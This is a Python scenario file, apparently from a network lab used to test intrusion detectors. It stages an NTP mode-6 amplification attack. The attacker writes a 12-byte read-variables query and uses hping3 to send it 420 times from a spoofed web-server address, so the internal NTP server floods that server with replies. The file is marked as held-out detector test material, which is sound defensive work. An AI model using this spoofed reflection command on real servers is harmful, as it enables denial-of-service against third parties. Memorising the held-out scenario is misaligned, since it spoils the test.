"""NTP's control messages: twelve octets bring hundreds, in somebody else's name."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario

# RFC 9327 section 2: version 2, mode 6, operation 2 (read variables), association 0.
QUESTION = bytes.fromhex("1602000100000000 00000000")


def run(net: Range) -> None:
    attacker, victim, clock = net.outside("attacker"), net.outside("www"), net.inside("clock")
    servers.clock(clock)
    net.everyday()
    net.loop(net.inside("pc1"), f"ntpdig -t 1 {clock.ip}", 1.5)
    net.quiet(3)
    question = attacker.folder / "question"
    question.write_bytes(QUESTION)
    with net.attack(
        "amplification",
        by=attacker,
        victims=[victim],
        attacker_known=False,
        others={"reflector": [clock], "claimed": [victim]},
        also=["ip-spoofing"],
        frames=f"udp and dst host {clock.ip} and dst port 123",
        responses=f"host {victim.ip} and host {clock.ip}",
    ):
        words = f"hping3 -q -2 --spoof {victim.ip} -s 80 -k -p 123 -d {len(QUESTION)} -E {question}"
        net.tool(attacker, *words.split(), *["-i", "u20000", "-c", "420"], clock.ip)
    net.quiet(3)


SCENARIO = Scenario(
    name="amplification-held-ntp",
    about="hping3 asks an NTP server for its variables forty times a second in the name of a web server.",
    detectors=("amplification",),
    tools={"hping3": "hping3", "ntpd": "ntpsec", "ntpdig": "ntpsec-ntpdig"},
    held_out=True,
    snap_octets=64,
    run=run,
)
